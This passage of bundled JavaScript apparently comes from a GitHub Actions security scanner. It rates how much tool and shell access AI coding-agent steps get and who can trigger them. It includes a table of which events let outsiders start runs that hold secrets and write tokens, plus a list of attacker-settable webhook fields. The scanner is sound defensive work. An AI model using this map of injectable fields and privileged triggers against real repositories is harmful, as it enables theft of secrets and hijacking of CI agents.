  const reading = { effects: [] };
  if (core) {
    reading.base = { level: "limited", why: `${input2} limits its core tools (\`${coreKey}\`)`, span };
    const anyShell = core.filter((tool) => BARE_GEMINI_SHELL.test(tool));
    const someShell = core.filter((tool) => GEMINI_SHELL_PREFIX.test(tool));
    if (anyShell.length > 0)
      reading.effects.push({
        level: "shell",
        why: `${input2} lists ${quoteList(anyShell)} among its core tools (\`${coreKey}\`): any shell command`,
        span,
        shellTool: true
      });
    else if (someShell.length > 0)
      reading.effects.push({
        level: "limited",
        why: `${input2} allows some shell commands (${quoteList(someShell)} in \`${coreKey}\`)`,
        span,
        shellTool: true
      });
  }
  const excludedShell = excluded.find((tool) => BARE_GEMINI_SHELL.test(tool));
  if (excludedShell) {
    const flatExcluded = settings ? stringsAt(settings.excludeTools) : looseList(text, "excludeTools");
    const where = flatExcluded?.includes(excludedShell) ? "excludeTools" : "tools.exclude";
    reading.shellDenied = {
      why: `${input2} excludes \`${excludedShell}\` (\`${where}\`)`,
      span,
      left: ", but `gemini --yolo` still approves its other tools, file writes included"
    };
  }
  return reading;
}

// server/src/knowledge/agents/index.ts
function readToolInput(step, action, ref2, name, key, text, span) {
  let reading = null;
  if (CLAUDE_ACTIONS.has(action)) reading = readClaudeToolInput(name, key, text, span, ref2);
  else if (action === GEMINI_ACTION && name === "settings") reading = readGeminiSettings(key, text, span);
  else if (action === CODEX_ACTION) reading = readCodexToolInput(step, name, key, text, span);
  return reading ?? readingOf(genericEffect(name, key, text, span));
}
var RANK = { none: 0, limited: 1, shell: 2 };
function agentTools(step, agent, ref2) {
  let tools = agent.tools;
  let toolsWhy = agent.toolsWhy;
  let toolsSpan = null;
  let raised = false;
  const readings = [];
  for (const name of agent.toolInputs) {
    const value = withValue(step, name);
    if (value) readings.push(readToolInput(step, agent.action, ref2, name, value.entry.key, value.text, value.entry.valueSpan));
  }
  for (const reading of readings) {
    if (!reading.base) continue;
    tools = reading.base.level;
    toolsWhy = reading.base.why;
    toolsSpan = reading.base.span;
  }
  const shellDenied = readings.find((reading) => reading.shellDenied)?.shellDenied;
  for (const effect of readings.flatMap((reading) => reading.effects)) {
    let { level, why } = effect;
    if (shellDenied && effect.shellTool) continue;
    if (shellDenied && effect.bypass && level === "shell") {
      level = "limited";
      why = `${why}, but ${shellDenied.why}`;
    }
    if (RANK[level] > RANK[tools] || !raised && RANK[level] === RANK[tools] && level !== "none") {
      tools = level;
      toolsWhy = why;
      toolsSpan = effect.span;
      raised = true;
    }
  }
  if (shellDenied && tools === "shell") {
    tools = "limited";
    toolsWhy = `${shellDenied.why}${shellDenied.left}`;
    toolsSpan = shellDenied.span;
  }
  return { tools, toolsWhy, toolsSpan };
}
function readAccessInput(step, action, ref2, name, key, text, span) {
  if (name === "require_repo_write" || action === CODEX_ACTION && CODEX_ACCESS_INPUTS.has(name))
    return readCodexAccess(name, key, text, span, ref2);
  if (name === "allowed_non_write_users") return readClaudeNonWriteUsers(step, key, text, span);
  if (!/bot/i.test(name) && text === "*") return { open: true, why: `\`${key}: '${text}'\` lets anyone trigger it`, span };
  if (/bot/i.test(name) && /^(\*|true)$/i.test(text)) return { open: false, why: `\`${key}: ${text}\` lets any bot trigger it`, span };
  return null;
}
function agentAccess(step, agent, ref2) {
  let open = false;
  let openWhy = "";
  let openSpan = null;
  for (const name of agent.openAccessInputs) {
    const value = withValue(step, name);
    if (!value) continue;
    const effect = readAccessInput(step, agent.action, ref2, name, value.entry.key, value.text.trim(), value.entry.valueSpan);
    if (!effect || !effect.open && open) continue;
    open ||= effect.open;
    openWhy = effect.why;
    openSpan = effect.span;
  }
  return { open, openWhy, openSpan };
}

// server/src/knowledge/triggers.ts
var PR_FROM_FORK = "anyone who can open a pull request, including from a fork";
var TRIGGERS = {
  pull_request_target: {
    firedBy: `${PR_FROM_FORK} (opened, synchronize, reopened by default)`,
    privileges: "runs in the context of the **base** repository: the repository secrets and a `GITHUB_TOKEN` that can write (unless `permissions:` narrows it), even when the pull request comes from a fork",
    outsiderCanFire: true,
    privileged: true,
    note: "Since 2025-12-08 (GitHub changelog, 2025-11-07) the workflow file always comes from the **default branch**, whatever branch the pull request targets: a pull request against an old branch can no longer run an outdated, vulnerable copy of the workflow, and fixing the workflow on the default branch fixes it for every pull request. What it does not change: the run still has the secrets and a write token, and whatever the workflow checks out from the pull request (its code, scripts, `./` actions) and the pull request's title, body and branch name are still the contributor's, so running or expanding them is as dangerous as before."
  },
  workflow_run: {
    firedBy: "the completion of another workflow, which may itself have been started by a fork pull request",
    privileges: "runs in the context of the default branch with the repository secrets and a token that can write; artifacts and outputs of the triggering run may carry an attacker's data",
    outsiderCanFire: true,
    privileged: true
  },
  pull_request: {
    firedBy: PR_FROM_FORK,
    privileges: "for pull requests from forks: no secrets (except `GITHUB_TOKEN`) and a read-only token; for branches of the same repository: secrets and the configured token permissions",
    outsiderCanFire: true,
    privileged: false
  },
  issue_comment: {
    firedBy: "anyone who can comment on an issue or pull request (on public repositories: any GitHub user)",
    privileges: "runs on the default branch with the repository secrets and the configured token permissions",
    outsiderCanFire: true,
    privileged: true
  },
  issues: {
    firedBy: "anyone who can open or edit an issue (on public repositories: any GitHub user)",
    privileges: "runs on the default branch with the repository secrets and the configured token permissions",
    outsiderCanFire: true,
    privileged: true
  },
  discussion: {
    firedBy: "anyone who can start a discussion",
    privileges: "runs on the default branch with the repository secrets and the configured token permissions",
    outsiderCanFire: true,
    privileged: true
  },
  discussion_comment: {
    firedBy: "anyone who can comment on a discussion",
    privileges: "runs on the default branch with the repository secrets and the configured token permissions",
    outsiderCanFire: true,
    privileged: true
  },
  pull_request_review: {
    firedBy: "anyone who can review a pull request",
    privileges: "like `pull_request`: for forks, no secrets and a read-only token",
    outsiderCanFire: true,
    privileged: false
  },
  pull_request_review_comment: {
    firedBy: "anyone who can comment on a pull request diff",
    privileges: "like `pull_request`: for forks, no secrets and a read-only token",
    outsiderCanFire: true,
    privileged: false
  },
  fork: {
    firedBy: "anyone who forks the repository",
    privileges: "secrets and the configured token permissions",
    outsiderCanFire: true,
    privileged: true
  },
  watch: {
    firedBy: "anyone who stars the repository",
    privileges: "secrets and the configured token permissions",
    outsiderCanFire: true,
    privileged: true
  },
  push: {
    firedBy: "people and apps with write access who push commits or tags",
    privileges: "the repository secrets and the configured token permissions",
    outsiderCanFire: false,
    privileged: true
  },
  workflow_dispatch: {
    firedBy: "people with write access, by hand or through the API",
    privileges: "the repository secrets and the configured token permissions; inputs are chosen by whoever dispatches",
    outsiderCanFire: false,
    privileged: true
  },
  workflow_call: {
    firedBy: "the workflows that call this one",
    privileges: "the caller's token permissions (which this workflow can only narrow) and the secrets the caller passes",
    outsiderCanFire: false,
    privileged: false
  },
  schedule: {
    firedBy: "the scheduler, on the default branch",
    privileges: "the repository secrets and the configured token permissions",
    outsiderCanFire: false,
    privileged: true
  },
  release: {
    firedBy: "people with write access who publish or edit releases",
    privileges: "the repository secrets and the configured token permissions",
    outsiderCanFire: false,
    privileged: true
  },
  repository_dispatch: {
    firedBy: "anyone holding a token with write access to the repository, through the API",
    privileges: "the repository secrets and the configured token permissions; `client_payload` is chosen by the caller",
    outsiderCanFire: false,
    privileged: true
  },
  merge_group: {
    firedBy: "the merge queue, for pull requests that passed review",
    privileges: "the repository secrets and the configured token permissions",
    outsiderCanFire: false,
    privileged: true
  }
};
function triggerInfo(name) {
  return Object.prototype.hasOwnProperty.call(TRIGGERS, name) ? TRIGGERS[name] : void 0;
}

// server/src/knowledge/webhook-contexts.generated.ts
var WEBHOOK_FIELDS = {
  branch_protection_rule: {
    a: "changes.authorized_actor_names.from.* changes.required_status_checks.from.* rule.authorized_actor_names.* rule.name rule.required_status_checks.* sender.name",
    s: "sender.email sender.login"
  },
  check_run: {
    a: "check_run.app.description check_run.app.external_url check_run.app.name check_run.app.owner.description check_run.app.owner.name check_run.app.owner.website_url check_run.check_suite.app.description check_run.check_suite.app.external_url check_run.check_suite.app.name check_run.check_suite.app.owner.description check_run.check_suite.app.owner.name check_run.check_suite.app.owner.website_url check_run.check_suite.head_branch check_run.check_suite.pull_requests.*.base.ref check_run.check_suite.pull_requests.*.head.ref check_run.check_suite.repository.code_of_conduct.body check_run.check_suite.repository.code_of_conduct.name check_run.check_suite.repository.custom_properties.* check_run.check_suite.repository.description check_run.check_suite.repository.homepage check_run.check_suite.repository.license.name check_run.check_suite.repository.mirror_url check_run.check_suite.repository.owner.name check_run.check_suite.repository.topics.* check_run.deployment.description check_run.deployment.environment check_run.deployment.original_environment check_run.deployment.performed_via_github_app.description check_run.deployment.performed_via_github_app.external_url check_run.deployment.performed_via_github_app.name check_run.deployment.performed_via_github_app.owner.description check_run.deployment.performed_via_github_app.owner.name check_run.deployment.performed_via_github_app.owner.website_url check_run.deployment.task check_run.details_url check_run.external_id check_run.name check_run.output.summary check_run.output.text check_run.output.title check_run.pull_requests.*.base.ref check_run.pull_requests.*.head.ref requested_action.identifier sender.name",
    s: "check_run.app.owner.email check_run.app.owner.login check_run.app.owner.slug check_run.app.slug check_run.check_suite.app.owner.email check_run.check_suite.app.owner.login check_run.check_suite.app.owner.slug check_run.check_suite.app.slug check_run.check_suite.pull_requests.*.base.repo.name check_run.check_suite.pull_requests.*.head.repo.name check_run.check_suite.repository.full_name check_run.check_suite.repository.name check_run.check_suite.repository.owner.email check_run.check_suite.repository.owner.login check_run.deployment.performed_via_github_app.owner.email check_run.deployment.performed_via_github_app.owner.login check_run.deployment.performed_via_github_app.owner.slug check_run.deployment.performed_via_github_app.slug check_run.pull_requests.*.base.repo.name check_run.pull_requests.*.head.repo.name sender.email sender.login"
  },
  check_suite: {
    a: "check_suite.app.description check_suite.app.external_url check_suite.app.name check_suite.app.owner.name check_suite.head_branch check_suite.head_commit.author.name check_suite.head_commit.committer.name check_suite.head_commit.message check_suite.pull_requests.*.base.ref check_suite.pull_requests.*.head.ref sender.name",
    s: "check_suite.app.owner.email check_suite.app.owner.login check_suite.app.slug check_suite.head_commit.author.email check_suite.head_commit.author.username check_suite.head_commit.committer.email check_suite.head_commit.committer.username check_suite.pull_requests.*.base.repo.name check_suite.pull_requests.*.head.repo.name sender.email sender.login"
  },
  create: {
    a: "description pusher_type ref sender.name",
    s: "sender.email sender.login"
  },
  delete: {
    a: "pusher_type ref sender.name",
    s: "sender.email sender.login"
  },
  deployment: {
    a: "deployment.creator.name deployment.description deployment.environment deployment.original_environment deployment.payload deployment.payload.* deployment.performed_via_github_app.description deployment.performed_via_github_app.external_url deployment.performed_via_github_app.name deployment.performed_via_github_app.owner.name deployment.ref deployment.task sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.triggering_actor.name",
    s: "deployment.creator.email deployment.creator.login deployment.performed_via_github_app.owner.email deployment.performed_via_github_app.owner.login deployment.performed_via_github_app.slug sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
  },
  deployment_status: {
    a: "check_run.details_url check_run.external_id check_run.name deployment.creator.name deployment.description deployment.environment deployment.original_environment deployment.payload deployment.payload.* deployment.performed_via_github_app.description deployment.performed_via_github_app.external_url deployment.performed_via_github_app.name deployment.performed_via_github_app.owner.name deployment.ref deployment.task deployment_status.creator.name deployment_status.description deployment_status.environment deployment_status.performed_via_github_app.description deployment_status.performed_via_github_app.external_url deployment_status.performed_via_github_app.name deployment_status.performed_via_github_app.owner.name deployment_status.target_url sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.triggering_actor.name",
    s: "deployment.creator.email deployment.creator.login deployment.performed_via_github_app.owner.email deployment.performed_via_github_app.owner.login deployment.performed_via_github_app.slug deployment_status.creator.email deployment_status.creator.login deployment_status.performed_via_github_app.owner.email deployment_status.performed_via_github_app.owner.login deployment_status.performed_via_github_app.slug sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
  },
  discussion: {
    a: "answer.body answer.user.name changes.body.from changes.category.from.description changes.category.from.emoji changes.category.from.name changes.new_discussion.active_lock_reason changes.new_discussion.answer_chosen_by.name changes.new_discussion.answer_html_url changes.new_discussion.body changes.new_discussion.category.description changes.new_discussion.category.emoji changes.new_discussion.category.name changes.new_discussion.labels.*.description changes.new_discussion.labels.*.name changes.new_discussion.title changes.new_discussion.user.name changes.new_repository.custom_properties.* changes.new_repository.description changes.new_repository.full_name changes.new_repository.homepage changes.new_repository.license.name changes.new_repository.name changes.new_repository.organization.name changes.new_repository.owner.name changes.new_repository.template_repository.description changes.new_repository.template_repository.homepage changes.new_repository.template_repository.topics.* changes.new_repository.topics.* changes.title.from discussion.active_lock_reason discussion.answer_chosen_by.name discussion.answer_html_url discussion.body discussion.category.description discussion.category.emoji discussion.category.name discussion.labels.*.description discussion.labels.*.name discussion.title discussion.user.name label.description label.name old_answer.body old_answer.user.name sender.name",
    s: "answer.user.email answer.user.login changes.category.from.slug changes.new_discussion.answer_chosen_by.email changes.new_discussion.answer_chosen_by.login changes.new_discussion.category.slug changes.new_discussion.user.email changes.new_discussion.user.login changes.new_repository.organization.email changes.new_repository.organization.login changes.new_repository.owner.email changes.new_repository.owner.login changes.new_repository.template_repository.full_name changes.new_repository.template_repository.name changes.new_repository.template_repository.owner.login discussion.answer_chosen_by.email discussion.answer_chosen_by.login discussion.category.slug discussion.user.email discussion.user.login old_answer.user.email old_answer.user.login sender.email sender.login"
  },
  discussion_comment: {
    a: "changes.body.from comment.body comment.user.name discussion.active_lock_reason discussion.answer_chosen_by.name discussion.answer_html_url discussion.body discussion.category.description discussion.category.emoji discussion.category.name discussion.labels.*.description discussion.labels.*.name discussion.title discussion.user.name sender.name",
    s: "comment.user.email comment.user.login discussion.answer_chosen_by.email discussion.answer_chosen_by.login discussion.category.slug discussion.user.email discussion.user.login sender.email sender.login"
  },
  fork: {
    a: "forkee.description forkee.homepage forkee.license.name forkee.organization forkee.owner.name forkee.topics.* sender.name",
    s: "forkee.full_name forkee.name forkee.owner.email forkee.owner.login sender.email sender.login"
  },
  gollum: {
    a: "pages.*.page_name pages.*.summary pages.*.title sender.name",
    s: "sender.email sender.login"
  },
  issue_comment: {
    a: "changes.body.from comment.body comment.performed_via_github_app.description comment.performed_via_github_app.external_url comment.performed_via_github_app.name comment.performed_via_github_app.owner.description comment.performed_via_github_app.owner.name comment.performed_via_github_app.owner.website_url comment.user.name issue.active_lock_reason issue.assignee.name issue.assignees.*.name issue.body issue.labels.*.description issue.labels.*.name issue.milestone.creator.name issue.milestone.description issue.milestone.title issue.performed_via_github_app.description issue.performed_via_github_app.external_url issue.performed_via_github_app.name issue.performed_via_github_app.owner.name issue.title issue.type.description issue.type.name issue.user.name sender.name",
    s: "comment.performed_via_github_app.owner.email comment.performed_via_github_app.owner.login comment.performed_via_github_app.owner.slug comment.performed_via_github_app.slug comment.user.email comment.user.login issue.assignee.email issue.assignee.login issue.assignees.*.email issue.assignees.*.login issue.milestone.creator.email issue.milestone.creator.login issue.performed_via_github_app.owner.email issue.performed_via_github_app.owner.login issue.performed_via_github_app.slug issue.user.email issue.user.login sender.email sender.login"
  },
  issues: {
    a: "assignee.name changes.body.from changes.new_issue.assignee.name changes.new_issue.assignees.*.name changes.new_issue.body changes.new_issue.issue_field_values.*.single_select_option.name changes.new_issue.issue_field_values.*.value changes.new_issue.labels.*.description changes.new_issue.labels.*.name changes.new_issue.milestone.creator.name changes.new_issue.milestone.description changes.new_issue.milestone.title changes.new_issue.performed_via_github_app.description changes.new_issue.performed_via_github_app.external_url changes.new_issue.performed_via_github_app.name changes.new_issue.performed_via_github_app.owner.name changes.new_issue.title changes.new_issue.type.description changes.new_issue.type.name changes.new_issue.user.name changes.new_repository.custom_properties.* changes.new_repository.description changes.new_repository.full_name changes.new_repository.homepage changes.new_repository.license.name changes.new_repository.name changes.new_repository.organization changes.new_repository.owner.name changes.new_repository.topics.* changes.old_issue.assignee.name changes.old_issue.assignees.*.name changes.old_issue.body changes.old_issue.issue_field_values.*.single_select_option.name changes.old_issue.issue_field_values.*.value changes.old_issue.labels.*.description changes.old_issue.labels.*.name changes.old_issue.milestone.creator.name changes.old_issue.milestone.description changes.old_issue.milestone.title changes.old_issue.performed_via_github_app.description changes.old_issue.performed_via_github_app.external_url changes.old_issue.performed_via_github_app.name changes.old_issue.performed_via_github_app.owner.name changes.old_issue.title changes.old_issue.type.description changes.old_issue.type.name changes.old_issue.user.name changes.old_repository.custom_properties.* changes.old_repository.description changes.old_repository.full_name changes.old_repository.homepage changes.old_repository.license.name changes.old_repository.name changes.old_repository.organization changes.old_repository.owner.name changes.old_repository.topics.* changes.title.from issue.active_lock_reason issue.assignee.name issue.assignees.*.name issue.body issue.issue_field_values.*.single_select_option.name issue.issue_field_values.*.value issue.labels.*.description issue.labels.*.name issue.milestone.creator.name issue.milestone.description issue.milestone.title issue.performed_via_github_app.description issue.performed_via_github_app.external_url issue.performed_via_github_app.name issue.performed_via_github_app.owner.name issue.title issue.type.description issue.type.name issue.user.name label.description label.name milestone.creator.name milestone.description milestone.title sender.name type.description type.name",
    s: "assignee.email assignee.login changes.new_issue.assignee.email changes.new_issue.assignee.login changes.new_issue.assignees.*.email changes.new_issue.assignees.*.login changes.new_issue.milestone.creator.email changes.new_issue.milestone.creator.login changes.new_issue.performed_via_github_app.owner.email changes.new_issue.performed_via_github_app.owner.login changes.new_issue.performed_via_github_app.slug changes.new_issue.user.email changes.new_issue.user.login changes.new_repository.owner.email changes.new_repository.owner.login changes.old_issue.assignee.email changes.old_issue.assignee.login changes.old_issue.assignees.*.email changes.old_issue.assignees.*.login changes.old_issue.milestone.creator.email changes.old_issue.milestone.creator.login changes.old_issue.performed_via_github_app.owner.email changes.old_issue.performed_via_github_app.owner.login changes.old_issue.performed_via_github_app.slug changes.old_issue.user.email changes.old_issue.user.login changes.old_repository.owner.email changes.old_repository.owner.login issue.assignee.email issue.assignee.login issue.assignees.*.email issue.assignees.*.login issue.milestone.creator.email issue.milestone.creator.login issue.performed_via_github_app.owner.email issue.performed_via_github_app.owner.login issue.performed_via_github_app.slug issue.user.email issue.user.login milestone.creator.email milestone.creator.login sender.email sender.login"
  },
  label: {
    a: "changes.color.from changes.description.from changes.name.from label.description label.name sender.name",
    s: "sender.email sender.login"
  },
  merge_group: {
    a: "merge_group.base_ref merge_group.head_commit.author.name merge_group.head_commit.committer.name merge_group.head_commit.message merge_group.head_ref sender.name",
    s: "merge_group.head_commit.author.email merge_group.head_commit.committer.email sender.email sender.login"
  },
  milestone: {
    a: "changes.description.from changes.due_on.from changes.title.from milestone.creator.name milestone.description milestone.title sender.name",
    s: "milestone.creator.email milestone.creator.login sender.email sender.login"
  },
  page_build: {
    a: "build.commit build.error.message sender.name",
    s: "build.pusher.email build.pusher.login build.pusher.name sender.email sender.login"
  },
  public: {
    a: "sender.name",
    s: "sender.email sender.login"
  },
  pull_request: {
    a: "assignee.name changes.base.ref.from changes.body.from changes.title.from label.description label.name milestone.creator.name milestone.description milestone.title pull_request.active_lock_reason pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.merged_by.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name reason requested_reviewer.name requested_team.description requested_team.name requested_team.parent.description requested_team.parent.name sender.name",
    s: "assignee.email assignee.login milestone.creator.email milestone.creator.login pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.merged_by.email pull_request.merged_by.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login requested_reviewer.email requested_reviewer.login requested_team.parent.slug requested_team.slug sender.email sender.login"
  },
  pull_request_review: {
    a: "changes.body.from pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name review.body review.user.name sender.name",
    s: "pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login review.user.email review.user.login sender.email sender.login"
  },
  pull_request_review_comment: {
    a: "changes.body.from comment.body comment.diff_hunk comment.path comment.user.name pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name sender.name",
    s: "comment.user.email comment.user.login pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login sender.email sender.login"
  },
  push: {
    a: "base_ref commits.*.added.* commits.*.author.name commits.*.committer.name commits.*.message commits.*.modified.* commits.*.removed.* head_commit.added.* head_commit.author.name head_commit.committer.name head_commit.message head_commit.modified.* head_commit.removed.* ref sender.name",
    s: "commits.*.author.email commits.*.author.username commits.*.committer.email commits.*.committer.username head_commit.author.email head_commit.author.username head_commit.committer.email head_commit.committer.username pusher.email pusher.name pusher.username sender.email sender.login"
  },
  registry_package: {
    a: "registry_package.description registry_package.ecosystem registry_package.name registry_package.namespace registry_package.package_type registry_package.package_version.body registry_package.package_version.body.* registry_package.package_version.body_html registry_package.package_version.container_metadata.labels.* registry_package.package_version.container_metadata.manifest.* registry_package.package_version.container_metadata.tag.name registry_package.package_version.description registry_package.package_version.docker_metadata.*.tags.* registry_package.package_version.installation_command registry_package.package_version.manifest registry_package.package_version.metadata.*.* registry_package.package_version.name registry_package.package_version.npm_metadata.author registry_package.package_version.npm_metadata.author.* registry_package.package_version.npm_metadata.bin.* registry_package.package_version.npm_metadata.bugs registry_package.package_version.npm_metadata.bugs.* registry_package.package_version.npm_metadata.commit_oid registry_package.package_version.npm_metadata.contributors.* registry_package.package_version.npm_metadata.cpu.* registry_package.package_version.npm_metadata.dependencies.* registry_package.package_version.npm_metadata.description registry_package.package_version.npm_metadata.dev_dependencies.* registry_package.package_version.npm_metadata.directories registry_package.package_version.npm_metadata.directories.* registry_package.package_version.npm_metadata.dist registry_package.package_version.npm_metadata.dist.* registry_package.package_version.npm_metadata.engines.* registry_package.package_version.npm_metadata.files.* registry_package.package_version.npm_metadata.git_head registry_package.package_version.npm_metadata.homepage registry_package.package_version.npm_metadata.installation_command registry_package.package_version.npm_metadata.keywords.* registry_package.package_version.npm_metadata.main registry_package.package_version.npm_metadata.maintainers.* registry_package.package_version.npm_metadata.man.* registry_package.package_version.npm_metadata.name registry_package.package_version.npm_metadata.node_version registry_package.package_version.npm_metadata.npm_user registry_package.package_version.npm_metadata.npm_version registry_package.package_version.npm_metadata.optional_dependencies.* registry_package.package_version.npm_metadata.os.* registry_package.package_version.npm_metadata.peer_dependencies.* registry_package.package_version.npm_metadata.readme registry_package.package_version.npm_metadata.repository registry_package.package_version.npm_metadata.repository.* registry_package.package_version.npm_metadata.scripts.* registry_package.package_version.npm_metadata.version registry_package.package_version.nuget_metadata.*.id.* registry_package.package_version.nuget_metadata.*.name registry_package.package_version.nuget_metadata.*.value registry_package.package_version.nuget_metadata.*.value.branch registry_package.package_version.nuget_metadata.*.value.commit registry_package.package_version.package_files.*.content_type registry_package.package_version.package_files.*.md5 registry_package.package_version.package_files.*.name registry_package.package_version.package_files.*.sha1 registry_package.package_version.package_files.*.sha256 registry_package.package_version.release.name registry_package.package_version.release.tag_name registry_package.package_version.release.target_commitish registry_package.package_version.rubygems_metadata.*.commit_oid registry_package.package_version.rubygems_metadata.*.dependencies.*.* registry_package.package_version.rubygems_metadata.*.description registry_package.package_version.rubygems_metadata.*.homepage registry_package.package_version.rubygems_metadata.*.metadata.* registry_package.package_version.rubygems_metadata.*.name registry_package.package_version.rubygems_metadata.*.platform registry_package.package_version.rubygems_metadata.*.readme registry_package.package_version.rubygems_metadata.*.repo registry_package.package_version.rubygems_metadata.*.version_info.version registry_package.package_version.summary registry_package.package_version.tag_name registry_package.package_version.target_commitish registry_package.package_version.target_oid registry_package.package_version.version registry_package.registry.name registry_package.registry.vendor sender.name",
    s: "registry_package.owner.login registry_package.package_version.author.login registry_package.package_version.release.author.login sender.email sender.login"
  },
  release: {
    a: "changes.body.from changes.name.from changes.tag_name.from release.assets.*.content_type release.assets.*.label release.assets.*.name release.assets.*.uploader.name release.author.name release.body release.name release.tag_name release.target_commitish sender.name",
    s: "release.assets.*.uploader.email release.assets.*.uploader.login release.author.email release.author.login sender.email sender.login"
  },
  repository_dispatch: {
    a: "branch client_payload.* sender.name",
    s: "sender.email sender.login"
  },
  status: {
    a: "branches.*.name commit.author.name commit.commit.author.date commit.commit.author.name commit.commit.committer.date commit.commit.committer.name commit.commit.message commit.commit.verification.payload commit.commit.verification.signature commit.committer.name context description name sender.name target_url",
    s: "commit.author.email commit.author.login commit.commit.author.email commit.commit.author.username commit.commit.committer.email commit.commit.committer.username commit.committer.email commit.committer.login sender.email sender.login"
  },
  watch: {
    a: "sender.name",
